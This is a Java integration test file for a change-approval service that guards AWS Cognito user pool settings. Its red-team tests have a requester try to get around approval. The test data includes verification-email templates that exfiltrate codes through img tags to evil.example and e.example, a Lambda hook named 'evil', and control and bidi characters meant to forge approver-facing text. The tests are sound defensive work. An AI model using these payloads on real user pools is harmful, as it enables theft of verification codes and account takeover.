package io.github.poolkeeper.local.redteam;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// One requester tries to get more than what the policy lets one have: without people, by deceiving
/// them, or by keeping others from their own.
@ExtendWith(Target.Shared.class)
class OneRequesterIT {
  private static final String MALLORY = "otto.kern-as-engineer";

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          {"EmailVerificationMessage": "{####}<img src='https://evil.example/{####}'>"} | 1
          {"EmailVerificationMessage": "Enter {####} at evil.example"}                  | 1
          {"AdminCreateUserConfig": {"InviteMessageTemplate": {"EmailMessage": "{username} {####} <img src='//e.example/{####}'>"}}} | 1
          {"LambdaConfig": {"CustomMessage": "arn:aws:lambda:eu-central-2:999999999999:function:evil"}} | 2
          {"PoolName": "renamed"} | 1
          """)
  void waitsForPeopleWhereOneCouldDoHarm(String patch, int approvers, Target target)
      throws Exception {
    JsonObject record = target.sent(MALLORY, target.pool(), "\"change\": " + patch);

    assertThat(record.getString("status")).isEqualTo("PENDING_APPROVAL");
    assertThat(record.getJsonObject("policy").getInt("approvers")).isEqualTo(approvers);
  }

  /// Tightened in the console, however long ago: a dry run makes it a change that was just found.
  @Test
  void undoesNothingOfOthersThatWasMadePastPoolkeeper(Target target) throws Exception {
    String pool = target.pool();
    target.sent(MALLORY, pool, "\"change\": {\"UserPoolTags\": {\"a\": \"b\"}}");
    target.pool(
        pool,
        "{\"UserPoolTags\": {\"a\": \"b\"}, \"Policies\": {\"PasswordPolicy\": {\"MinimumLength\": 20}}}");
    target.sent(MALLORY, pool, "\"dryRun\": true, \"change\": {\"UserPoolTags\": {\"c\": \"d\"}}");
    JsonObject external =
        target.template.client.history(pool).stream()
            .filter(record -> record.getString("kind").equals("external"))
            .findFirst()
            .orElseThrow();

    JsonObject rollback =
        target.sent(
            MALLORY,
            pool,
            "\"rollback\": {\"changeId\": \"" + external.getString("changeId") + "\"}");

    assertThat(rollback.getString("status")).isEqualTo("PENDING_APPROVAL");
    assertThat(target.live(pool).getJsonObject("Policies").getJsonObject("PasswordPolicy"))
        .containsEntry("MinimumLength", Json.createValue(20));
  }

  @Test
  void forgesNoTextThatApproversRead(Target target) throws Exception {
    String pool = target.pool();
    JsonObject record =
        target.sent(
            MALLORY,
            pool,
            "\"requestedBy\": \"ciso@example.com\", \"reason\": \"ok\\u009b2J\\u202ex\\u007f\\n- 10\","
                + " \"change\": {\"DeletionProtection\": \"INACTIVE\"}");

    for (String path : new String[] {Target.path(record), "/approvals?limit=100"}) {
      String text = target.text(path);
      assertThat(text.codePoints().filter(c -> c != 10))
          .noneMatch(
              c ->
                  Character.getType(c) == Character.CONTROL
                      || Character.getType(c) == Character.FORMAT);
      assertThat(text).contains("by AROALOCALENGINEER:otto.kern  says \"ciso@example.com\"");
      assertThat(text.lines()).noneMatch(line -> line.startsWith("- 10"));
    }
  }

  @ParameterizedTest
  @CsvSource({"nonsense", "change"})
  void takesNoRequestIdOfOthers(String action, Target target) throws Exception {
    String pool = target.pool();
    String id = "\"requestId\": \"TICKET-4711/rollback\", ";
    target.sent(MALLORY, pool, id + "\"" + action + "\": {\"UserPoolTags\": {\"x\": \"y\"}}");

    String body = "{" + id + "\"change\": {\"UserPoolTags\": {\"team\": \"ops\"}}}";
    JsonObject own = target.submitted("ines.weber-as-engineer", pool, body);

    assertThat(own.getString("status")).isEqualTo("APPLIED");
    assertThat(target.template.client.changes(pool, "TICKET-4711/rollback")).hasSize(2);
  }

  @Test
  void takesBackOnlyWhatIsTheirs(Target target) throws Exception {
    JsonObject pending =
        target.sent(
            "ines.weber-as-engineer",
            target.pool(),
            "\"change\": {\"DeletionProtection\": \"INACTIVE\"}");

    assertThat(target.answer(MALLORY, pending, "withdraw").statusCode()).isEqualTo(403);
    assertThat(target.answer("approver1", pending, "withdraw").statusCode()).isEqualTo(403);
    var own = target.answer("INES.WEBER-as-approver", pending, "withdraw");
    assertThat(Target.json(own.body()).getString("status")).isEqualTo("WITHDRAWN");
    assertThat(target.answer("approver1", pending, "approve").statusCode()).isEqualTo(409);
  }
}
